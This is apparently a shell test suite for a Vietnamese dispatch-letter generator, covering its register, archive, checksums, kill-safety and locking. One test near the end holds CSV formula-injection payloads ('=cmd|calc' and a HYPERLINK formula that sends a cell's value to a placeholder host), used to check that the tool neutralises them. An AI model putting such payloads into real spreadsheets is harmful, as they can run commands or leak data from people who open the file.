# The output folder across runs (sourced by run.sh): SHA256SUMS, the
# register, the archive, --force, removed rows, the directory files,
# and runs killed at random points.

o=$tmp/reg
rm -rf "$o"
# A draft touches neither the register nor the archive.
expect "draft build" 0 $CV build -q -o "$o"
check "draft: no register" test ! -e "$o/register.csv"
check "draft: no archive" test ! -e "$o/archive"
check "draft: SHA256SUMS verifies" sh -c "cd '$o' && sha256sum --quiet -c SHA256SUMS"
check "draft: SHA256SUMS lists 15 letters and the directory" test "$(wc -l <"$o/SHA256SUMS")" -eq 16
check "draft: SHA256SUMS paths relative" sh -c "! grep -q '$o' '$o/SHA256SUMS'"

# Issued: the register gets its row, the archive its letters.
expect "issue 07" 0 $CV build -o "$o" --number 7 --date 2022-04-05
check "issue: summary names the archive" grep -qx "issued as 07/BTTTT-CATTT, archived in archive/2022/07-BTTTT-CATTT/" "$tmp/out"
a=$o/archive/2022/07-BTTTT-CATTT
check "archive: 15 letters" test "$(ls "$a"/[0-9]*.pdf | wc -l)" -eq 15
check "archive: its SHA256SUMS verifies" sh -c "cd '$a' && sha256sum --quiet -c SHA256SUMS"
check "archive: same bytes as letters/" cmp "$a/01-bo-lao-dong-thuong-binh-va-xa-hoi.pdf" "$o/letters/01-bo-lao-dong-thuong-binh-va-xa-hoi.pdf"
check "register: BOM" sh -c "head -c 3 '$o/register.csv' | od -An -tx1 | grep -q 'ef bb bf'"
check "register: Phụ lục IV header" sh -c "sed -n 1p '$o/register.csv' | grep -q 'Số, ký hiệu văn bản\",Ngày tháng văn bản,Tên loại và trích yếu nội dung văn bản,Người ký,Nơi nhận văn bản,\"Đơn vị, người nhận bản lưu\",Số lượng bản,Ngày chuyển,Ký nhận,Ghi chú'"
check "register: one row" test "$(grep -c '^07/BTTTT-CATTT,05/04/2022,' "$o/register.csv")" -eq 1
check "register: row points at the archive" grep -q ',archive/2022/07-BTTTT-CATTT/' "$o/register.csv"
check "register: signer, copies, Lưu" grep -q ',Nguyễn Huy Dũng,.*,"VT, Cục ATTT (3)",15,,,' "$o/register.csv"

# A rerun updates the row, never duplicates it; the clerk's columns stay.
sed -i 's/,15,,,archive/,15,06\/04\/2022,Lan,archive/' "$o/register.csv"
expect "reissue" 0 $CV build -q -o "$o" --number 7 --date 2022-04-05
check "rerun: still one row" test "$(grep -c '^07/BTTTT-CATTT' "$o/register.csv")" -eq 1
check "rerun: the clerk's columns kept" grep -q ',15,06/04/2022,Lan,archive/' "$o/register.csv"

# --number auto: the same dispatch keeps its number.
expect "auto, same dispatch" 0 $CV build -o "$o" --number auto --date 2022-04-05
check "auto reuses 07" grep -q "issued as 07/BTTTT-CATTT" "$tmp/out"
expect "auto without a date" 2 $CV build -o "$o" --number auto
check "auto without a date: message" grep -q "number auto needs a date" "$tmp/err"

# Another dispatch of the same year: the next number; 07 is refused.
mkdir -p "$tmp/other"
cp input/appendix.csv "$tmp/other/"
sed 's/^trich_yeu: .*/trich_yeu: báo cáo kết quả thực hiện năm 2022/' input/dispatch.md >"$tmp/other/dispatch.md"
snap "$o" >"$tmp/s1"
expect "number taken" 1 $CV build -i "$tmp/other" -o "$o" --number 7 --date 2022-05-01
check "number taken: names the row" grep -q "register.csv:2: error: number 07 of 2022 is already taken by 07/BTTTT-CATTT" "$tmp/err"
snap "$o" >"$tmp/s2"
check "number taken: nothing changed" cmp "$tmp/s1" "$tmp/s2"
expect "auto, other dispatch" 0 $CV build -i "$tmp/other" -o "$o" --number auto --date 2022-05-01
check "auto takes 08" grep -q "issued as 08/BTTTT-CATTT" "$tmp/out"
check "register: two rows" test "$(grep -c '/BTTTT-CATTT,' "$o/register.csv")" -eq 2
check "archive of 08 apart" test -f "$o/archive/2022/08-BTTTT-CATTT/SHA256SUMS"
expect "auto, a new year" 0 $CV build -i "$tmp/other" -o "$tmp/reg2023" --number auto --date 2023-01-03
check "numbers restart each year" grep -q "issued as 01/BTTTT-CATTT" "$tmp/out"

# The archive is frozen: a changed letter is refused without --force.
mkdir -p "$tmp/chg"
cp input/dispatch.md "$tmp/chg/"
sed 's/^2,Bộ Giáo dục và Đào tạo,/2,Bộ Giáo dục và Đào tạo (sửa),/' input/appendix.csv >"$tmp/chg/appendix.csv"
snap "$o" >"$tmp/s1"
expect "archive refuses" 1 $CV build -i "$tmp/chg" -o "$o" --number 7 --date 2022-04-05
check "archive refuses: lists the letters" grep -q "02-bo-giao-duc-va-dao-tao-sua.pdf would be added" "$tmp/err"
check "archive refuses: the gone letter" grep -q "02-bo-giao-duc-va-dao-tao.pdf would be removed" "$tmp/err"
check "archive refuses: says --force" grep -q -- "--force" "$tmp/err"
snap "$o" >"$tmp/s2"
check "archive refuses: nothing changed" cmp "$tmp/s1" "$tmp/s2"
old=$(sha256sum "$a/02-bo-giao-duc-va-dao-tao.pdf" | cut -c1-12)
expect "archive --force" 0 $CV build -i "$tmp/chg" -o "$o" --number 7 --date 2022-04-05 --force
check "--force keeps the old letter" test -f "$a/superseded/02-bo-giao-duc-va-dao-tao.$old.pdf"
check "--force: the new letter archived" test -f "$a/02-bo-giao-duc-va-dao-tao-sua.pdf"
check "--force: archive sums verify" sh -c "cd '$a' && sha256sum --quiet -c SHA256SUMS"
check "--force: register notes the 15 superseded (the table changed in every letter)" grep -q 'archive/2022/07-BTTTT-CATTT/; 15 bản cũ lưu ở archive/2022/07-BTTTT-CATTT/superseded/' "$o/register.csv"
check "removed row: its letter removed" test ! -e "$o/letters/02-bo-giao-duc-va-dao-tao.pdf"
check "removed row: said so" grep -qx "removed letters/02-bo-giao-duc-va-dao-tao.pdf" "$tmp/out"
check "after --force: sums verify" sh -c "cd '$o' && sha256sum --quiet -c SHA256SUMS"

# Only one letter changes: one written, the others keep their mtime.
# (Without phu_luc: a cell the appendix table shows changes every letter.)
mkdir -p "$tmp/one" "$tmp/one0"
awk '/^phu_luc:/ { skip = 1; next } skip && /^  / { next } { skip = 0; print }' input/dispatch.md >"$tmp/one/dispatch.md"
cp "$tmp/one/dispatch.md" input/appendix.csv "$tmp/one0/"
sed 's/^3,Bộ Công an,"Điểm 4,/3,Bộ Công an,"Điểm 14,/' input/appendix.csv >"$tmp/one/appendix.csv"
expect "one row, first" 0 $CV build -q -o "$tmp/one/out" -i "$tmp/one0"
touch -d '2001-01-01' "$tmp/one/out/letters/"*.pdf
expect "one row changed" 0 $CV build -o "$tmp/one/out" -i "$tmp/one"
check "one row: summary" grep -qx "15 letters: 1 written, 14 unchanged" "$tmp/out"
check "one row: 14 mtimes kept" test "$(find "$tmp/one/out/letters" -name '*.pdf' ! -newermt '2002-01-01' | wc -l)" -eq 14

# Two folders, same inputs: the same bytes, register and checksums.
expect "twin A" 0 $CV build -q -o "$tmp/twinA" --number 9 --date 2022-06-01
expect "twin B" 0 $CV build -q -o "$tmp/twinB" --number 9 --date 2022-06-01
check "twins identical" diff -r "$tmp/twinA" "$tmp/twinB"

# The directory files: written with danh_ba, removed without it.
check "directory.pdf" test -s "$tmp/twinA/directory.pdf"
check "directory.csv has a BOM" sh -c "head -c 3 '$tmp/twinA/directory.csv' | od -An -tx1 | grep -q 'ef bb bf'"
check "directory.vcf is vCard 4.0" sh -c "grep -q '^VERSION:4.0' '$tmp/twinA/directory.vcf'"
has "directory" "$tmp/twinA/directory.pdf" "DANH BẠ ĐẦU MỐI PHỐI HỢP BẢO VỆ TRẺ EM TRÊN MÔI TRƯỜNG MẠNG" \
    "cơ quan đã cung cấp; hạn cung cấp ngày 30 tháng 4 năm 2022" \
    "1. Bộ Lao động - Thương binh và Xã hội" "Chưa cung cấp"
check "directory: landscape A4" sh -c "pdfinfo '$tmp/twinA/directory.pdf' | grep -q 'Page size: *841.8[0-9]* x 595.2[0-9]* pts'"
mkdir -p "$tmp/nodb"
cp input/appendix.csv "$tmp/nodb/"
awk '/^danh_ba:/ { skip = 1; next } skip && /^  / { next } { skip = 0; print }' input/dispatch.md >"$tmp/nodb/dispatch.md"
expect "build without danh_ba" 0 $CV build -q -i "$tmp/nodb" -o "$tmp/twinA" --number 9 --date 2022-06-01
check "no danh_ba: directory files removed" test ! -e "$tmp/twinA/directory.pdf" -a ! -e "$tmp/twinA/directory.csv" -a ! -e "$tmp/twinA/directory.vcf"
check "no danh_ba: sums verify" sh -c "cd '$tmp/twinA' && sha256sum --quiet -c SHA256SUMS"
# A file of the clerk's own is never removed.
echo mine >"$tmp/twinA/letters/ghi-chu.pdf"
expect "rebuild beside a clerk's file" 0 $CV build -q -i "$tmp/nodb" -o "$tmp/twinA" --number 9 --date 2022-06-01
check "the clerk's file stays" test -f "$tmp/twinA/letters/ghi-chu.pdf"

# Killed at random points: whole PDFs only, the checksums consistent,
# and the next run brings everything in line.
mkdir -p "$tmp/kill"
cp input/dispatch.md "$tmp/kill/"
{ echo 'STT,Tên cơ quan,Tham chiếu nhiệm vụ'
  i=1; while [ $i -le 40 ]; do
	echo "$i,Cơ quan $i,\"Điểm $i, Khoản IV, Điều 1\""; i=$((i + 1)); done; } >"$tmp/kill/appendix.csv"
k=0 bad=0
while [ $k -lt ${KILLS:-8} ]; do
	sed -i "s/^\(1,Cơ quan 1\)[^,]*,/\1 lần $k,/" "$tmp/kill/appendix.csv"
	$CV build -q -i "$tmp/kill" -o "$tmp/kill/out" --number 3 --date 2022-03-09 --force >/dev/null 2>&1 &
	pid=$!
	sleep "0.$(( (k * 37) % 9 + 1))"
	kill -9 $pid 2>/dev/null; wait $pid 2>/dev/null
	for f in "$tmp/kill/out/letters/"*.pdf "$tmp/kill/out/archive/"*/*/*.pdf; do
		[ -e "$f" ] || continue
		qpdf --check "$f" >/dev/null 2>&1 || { bad=1; echo "not whole: $f"; }
	done
	if [ -f "$tmp/kill/out/SHA256SUMS" ]; then
		(cd "$tmp/kill/out" && sha256sum --quiet -c SHA256SUMS >/dev/null 2>&1) || { bad=1; echo "SHA256SUMS wrong after kill $k"; }
	fi
	k=$((k + 1))
done
check "killed runs: whole PDFs, checksums consistent" test $bad -eq 0
expect "after the kills" 0 $CV build -q -i "$tmp/kill" -o "$tmp/kill/out" --number 3 --date 2022-03-09 --force
check "after the kills: no staging left" test -z "$(ls -d "$tmp/kill/out/".congvan-staging* 2>/dev/null)"
check "after the kills: sums verify" sh -c "cd '$tmp/kill/out' && sha256sum --quiet -c SHA256SUMS && test \$(wc -l <SHA256SUMS) -eq 41"
check "after the kills: one register row" test "$(grep -c '^03/BTTTT-CATTT' "$tmp/kill/out/register.csv")" -eq 1

# A rerun renders only letters whose inputs changed, and trusts nothing
# it cannot check: a letter altered in place is rendered again.
rm -rf "$tmp/keys"
expect "keys: first" 0 $CV build -q -o "$tmp/keys"
cp "$tmp/keys/letters/05-bo-tai-chinh.pdf" "$tmp/keys.bak"
printf 'x' >>"$tmp/keys/letters/05-bo-tai-chinh.pdf"
expect "keys: a letter altered" 0 $CV build -o "$tmp/keys"
check "keys: the altered letter rewritten" grep -qx "15 letters: 1 written, 14 unchanged" "$tmp/out"
check "keys: its bytes restored" cmp "$tmp/keys.bak" "$tmp/keys/letters/05-bo-tai-chinh.pdf"
mkdir -p "$tmp/keyt"
sed 's/^  so_label: "Số:"/  so_label: "Số :"/' templates/cong-van.yaml >"$tmp/keyt/cong-van.yaml"
expect "keys: a template change" 0 $CV build -o "$tmp/keys" -t "$tmp/keyt"
check "keys: every letter rendered again" grep -qx "15 letters: 15 written, 0 unchanged" "$tmp/out"

# The archive is checked against its own SHA256SUMS, the register
# against renumbering.
rm -rf "$tmp/ar"
expect "archive check: issue" 0 $CV build -q -o "$tmp/ar" --number 7 --date 2022-04-05
a=$tmp/ar/archive/2022/07-BTTTT-CATTT
rm "$a/03-bo-cong-an.pdf"
expect "archive check: a lost letter" 0 $CV build -q -o "$tmp/ar" --number 7 --date 2022-04-05
check "archive check: a lost letter put back" sh -c "cd '$a' && sha256sum --quiet -c SHA256SUMS"
echo junk >"$a/04-bo-ke-hoach-va-dau-tu.pdf"
expect "archive check: an altered letter" 1 $CV build -q -o "$tmp/ar" --number 7 --date 2022-04-05
check "archive check: altered, named" grep -q "04-bo-ke-hoach-va-dau-tu.pdf: error: altered since it was issued" "$tmp/err"
expect "archive check: --force keeps it" 0 $CV build -q -o "$tmp/ar" --number 7 --date 2022-04-05 --force
check "archive check: superseded under its own hash" test -f "$a/superseded/04-bo-ke-hoach-va-dau-tu.$(printf 'junk\n' | sha256sum | cut -c1-12).pdf"
# Another number for the same date, ky_hieu and subject is a new
# dispatch the clerk declares (SPEC.md "The register"), with a warning.
expect "a new number declares a new dispatch" 0 $CV build -q -o "$tmp/ar" --number 9 --date 2022-04-05
check "a new number: warned" grep -q "register.csv:2: warning: 07/BTTTT-CATTT has this dispatch's date, ky_hieu and subject: --number 9 issues it again as a new dispatch" "$tmp/err"
check "a new number: both rows" test "$(grep -c '^0[79]/BTTTT-CATTT,05/04/2022,' "$tmp/ar/register.csv")" -eq 2
expect "a new number: auto cannot tell them apart" 1 $CV build -q -o "$tmp/ar" --number auto --date 2022-04-05
check "a new number: auto names both rows" grep -q "register.csv:3: error: this dispatch's date, ky_hieu and subject are those of 07/BTTTT-CATTT (line 2) and of 09/BTTTT-CATTT here: --number auto cannot tell which to rebuild, so give its number with --number" "$tmp/err"
expect "a new number: its advice followed" 0 $CV build -q -o "$tmp/ar" --number 7 --date 2022-04-05
# (A register row that cannot be read: tests/register.sh.)

# Durability costs one flush per build, not one per letter: the staged
# letters are written without fsync, then one syncfs(2) before any is
# put in place.  Builds of 15 and of 40 letters make the same calls.
if command -v strace >/dev/null; then
	rm -rf "$tmp/sync15" "$tmp/sync40"
	strace -f -qq -e trace=fsync,fdatasync,syncfs -o "$tmp/sync15.tr" \
	    $CV build -q -o "$tmp/sync15" >/dev/null 2>&1
	strace -f -qq -e trace=fsync,fdatasync,syncfs -o "$tmp/sync40.tr" \
	    $CV build -q -i "$tmp/kill" -o "$tmp/sync40" >/dev/null 2>&1
	check "sync: one syncfs for 15 letters" test "$(grep -c 'syncfs(' "$tmp/sync15.tr")" -eq 1
	check "sync: one syncfs for 40 letters" test "$(grep -c 'syncfs(' "$tmp/sync40.tr")" -eq 1
	check "sync: fsyncs do not grow with the letters" test \
	    "$(grep -c 'fsync(' "$tmp/sync15.tr")" -eq "$(grep -c 'fsync(' "$tmp/sync40.tr")"
else
	ko "sync: strace not installed (apt-get install strace)"
fi

# The program is part of every letter's key: another build of congvan
# (here the same binary with a byte appended) renders every letter again.
rm -rf "$tmp/prog"
cp "$top/congvan" "$tmp/congvan2" && printf 'x' >>"$tmp/congvan2"
expect "program key: first" 0 $CV build -q -o "$tmp/prog"
expect "program key: same program" 0 $CV build -o "$tmp/prog"
check "program key: same program, nothing rendered" grep -qx "15 letters: 0 written, 15 unchanged" "$tmp/out"
cp "$tmp/prog/.congvan-keys" "$tmp/keys1"
expect "program key: another program" 0 ${VALGRIND:-} "$tmp/congvan2" build -o "$tmp/prog"
check "program key: another program, new keys" sh -c "! cmp -s '$tmp/keys1' '$tmp/prog/.congvan-keys'"
check "program key: another program, the same bytes" grep -qx "15 letters: 0 written, 15 unchanged" "$tmp/out"

# A reply cell a spreadsheet would run as a formula is written with a
# leading apostrophe, in directory.csv and in register.csv.
rm -rf "$tmp/inj"; mkdir -p "$tmp/inj"
cp input/appendix.csv "$tmp/inj/"
sed 's/^nguoi_ky: .*/nguoi_ky: "=cmd|calc"/' input/dispatch.md >"$tmp/inj/dispatch.md"
{ cat input/focal_points.csv
  printf '%s\n' 'Bộ Công an,"=HYPERLINK(""http://x/?""&A1,""Bấm"")",+1 Đơn vị,@Chức danh,+84 24 3826 0471,a@example.org'; } >"$tmp/inj/focal_points.csv"
expect "formula cells: build" 0 $CV build -q -i "$tmp/inj" -o "$tmp/inj/out" --number 3 --date 2022-04-05
check "formula cells: =HYPERLINK neutralised" grep -q "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Bấm\"\")\",'+1 Đơn vị,'@Chức danh,'+84 24 3826 0471," "$tmp/inj/out/directory.csv"
check "formula cells: no bare formula" sh -c "! grep -q ',=\|,+\|,@\|,-' '$tmp/inj/out/directory.csv'"
check "formula cells: register signer neutralised" grep -q ",'=cmd|calc," "$tmp/inj/out/register.csv"

# What the clerk typed into register.csv is kept as typed, even "-đã ký".
rm -rf "$tmp/regk"
expect "register clerk: issue" 0 $CV build -q -o "$tmp/regk" --number 4 --date 2022-04-05
sed -i 's/,15,,,archive/,15,06\/04\/2022,-đã ký,archive/' "$tmp/regk/register.csv"
expect "register clerk: reissue" 0 $CV build -q -o "$tmp/regk" --number 4 --date 2022-04-05
check "register clerk: -đã ký kept as typed" grep -q ',15,06/04/2022,-đã ký,archive/' "$tmp/regk/register.csv"

# A run killed after the archive and before the register: the next run
# of the same dispatch finishes it; another dispatch is still refused
# the number whose letters the archive holds.
rm -rf "$tmp/kr"
expect "killed before the register: issue" 0 $CV build -q -o "$tmp/kr" --number 6 --date 2022-04-05
check "the archive knows its dispatch" test -f "$tmp/kr/archive/2022/06-BTTTT-CATTT/.congvan-dispatch"
rm "$tmp/kr/register.csv"	# as a kill before it was written leaves it
expect "killed before the register: the same dispatch again" 0 $CV build -q -o "$tmp/kr" --number 6 --date 2022-04-05
check "killed before the register: its row written" test "$(grep -c '^06/BTTTT-CATTT,' "$tmp/kr/register.csv")" -eq 1
rm "$tmp/kr/register.csv"
expect "killed before the register: another dispatch" 1 $CV build -q -i "$tmp/other" -o "$tmp/kr" --number 6 --date 2022-04-05
check "killed before the register: another dispatch refused" grep -q "06-BTTTT-CATTT: error: already holds letters issued under this number for another dispatch, and register.csv has no row for them" "$tmp/err"

# --- Two clerks at once (issue 14, first step) --------------------------
# Builds of different dispatches with --number auto into one folder at the
# same moment: the number is chosen under the lock, so every build exits
# 0, each with its own number, every register row once, and each letter
# prints the number of its archive folder.  (Before: 3 of 4 refused with
# "number 01 of 2024 is already taken".)  4 builds, 3 rounds.
cc=$tmp/clerks
round=1
while [ $round -le 3 ]; do
	rm -rf "$cc"; mkdir -p "$cc/o"
	k=1
	while [ $k -le 4 ]; do
		mkdir -p "$cc/d$k"
		sed "s/^trich_yeu: .*/trich_yeu: \"công văn số $k về việc phối hợp\"/" \
		    input/dispatch.md | awk '/^danh_ba:/ { skip = 1; next }
		    skip && /^ / { next } { skip = 0; print }' >"$cc/d$k/dispatch.md"
		head -4 input/appendix.csv >"$cc/d$k/appendix.csv"
		k=$((k + 1))
	done
	for k in 1 2 3 4; do
		{ $CV build -q -i "$cc/d$k" -o "$cc/o" --number auto \
		    --date 2024-11-05 >/dev/null 2>&1; echo $? >"$cc/rc$k"; } &
	done
	wait
	[ "$(cat "$cc"/rc1 "$cc"/rc2 "$cc"/rc3 "$cc"/rc4 | sort -u)" = 0 ] &&
	    ok || ko "clerks at once: round $round: exits $(cat "$cc"/rc? | tr '\n' ' ')"
	[ "$(ls "$cc/o/archive/2024" 2>/dev/null | cut -c1-2 | sort -u | tr '\n' ' ')" = "01 02 03 04 " ] &&
	    ok || ko "clerks at once: round $round: folders $(ls "$cc/o/archive/2024" 2>/dev/null | tr '\n' ' ')"
	[ "$(grep -c '2024' "$cc/o/register.csv" 2>/dev/null)" -eq 4 ] &&
	    ok || ko "clerks at once: round $round: register rows"
	bad=
	for a in "$cc"/o/archive/2024/*/; do
		nn=$(basename "$a" | cut -c1-2)
		f=$(ls "$a"*.pdf | head -1)
		pdftotext "$f" - 2>/dev/null | grep -q "Số: $nn/BTTTT" || bad="$bad $nn"
		(cd "$a" && sha256sum -c --quiet SHA256SUMS >/dev/null 2>&1) || bad="$bad $nn(sums)"
	done
	[ -z "$bad" ] && ok || ko "clerks at once: round $round: letters$bad"
	round=$((round + 1))
done

# The lock held by another congvan (here flock(1), as a build stopped with
# Ctrl-Z would hold it): "waiting for …" once, then exit 4 after
# CONGVAN_LOCK_WAIT seconds with nothing changed; a holder that finishes
# within the wait lets the build go on.
if command -v flock >/dev/null; then
	lk=$tmp/lockheld
	rm -rf "$lk"; mkdir -p "$lk/o"
	$CV build -q -i input -o "$lk/o" >/dev/null 2>&1
	snap "$lk/o" >"$tmp/before"
	flock "$lk/o/.congvan-lock" sleep 6 &
	holder=$!
	sleep 0.5
	CONGVAN_LOCK_WAIT=1 expect "lock: gives up after the wait" 4 \
	    $CV build -q -i input -o "$lk/o" --number 3 --date 2022-04-05
	grep -q "waiting for another congvan working in $lk/o to finish" "$tmp/err" &&
	    grep -q "gave up after 1 seconds: another congvan still holds" "$tmp/err" &&
	    ok || ko "lock: messages: $(cat "$tmp/err")"
	snap "$lk/o" >"$tmp/after"
	cmp -s "$tmp/before" "$tmp/after" && ok || ko "lock: the folder changed"
	kill "$holder" 2>/dev/null; wait "$holder" 2>/dev/null
	flock "$lk/o/.congvan-lock" sleep 1 &
	holder=$!
	sleep 0.3
	CONGVAN_LOCK_WAIT=20 expect "lock: goes on when the holder finishes" 0 \
	    $CV build -q -i input -o "$lk/o"
	wait "$holder" 2>/dev/null
	unset CONGVAN_LOCK_WAIT
fi

# The register's "Nơi nhận văn bản" names every recipient of every letter
# (each kinh_gui entry), once and in order (issue 14: it kept only the
# first entry of each letter).
rg=$tmp/recipients
rm -rf "$rg"; mkdir -p "$rg"
sed 's/^kinh_gui: .*/kinh_gui: ["{{Tên cơ quan}}", "Sở Tài chính", "Kho bạc Nhà nước"]/' \
    input/dispatch.md | awk '/^danh_ba:/ { s = 1; next } s && /^ / { next }
    { s = 0; print }' >"$rg/dispatch.md"
head -4 input/appendix.csv >"$rg/appendix.csv"
expect "register: three recipients a letter" 0 \
    $CV build -q -i "$rg" -o "$rg/o" --number 5 --date 2022-04-05
grep -q '"Bộ Lao động - Thương binh và Xã hội; Sở Tài chính; Kho bạc Nhà nước; Bộ Giáo dục và Đào tạo; Bộ Công an"' \
    "$rg/o/register.csv" && ok ||
    ko "register: recipients: $(cut -d, -f5- "$rg/o/register.csv" | tail -1)"

# kinh_gui with a fixed entry before the placeholder: each letter is still
# named after its own recipient, and no row is taken for a second letter
# to one agency (a clerk's trial, issue 13).
kf=$tmp/kinhfirst
rm -rf "$kf"; mkdir -p "$kf"
sed 's/^kinh_gui: .*/kinh_gui: ["Sở Tài chính", "{{Tên cơ quan}}"]/' input/dispatch.md |
    awk '/^danh_ba:/ { s = 1; next } s && /^ / { next } { s = 0; print }' >"$kf/dispatch.md"
head -3 input/appendix.csv >"$kf/appendix.csv"
expect "kinh_gui: fixed entry first" 0 $CV build -q -i "$kf" -o "$kf/o"
! grep -q "the same recipient" "$tmp/err" && ok || ko "kinh_gui: fixed entry first: $(head -1 "$tmp/err")"
[ "$(ls "$kf/o/letters" | tr '\n' ' ')" = "1-bo-lao-dong-thuong-binh-va-xa-hoi.pdf 2-bo-giao-duc-va-dao-tao.pdf " ] &&
    ok || ko "kinh_gui: fixed entry first: $(ls "$kf/o/letters" | tr '\n' ' ')"
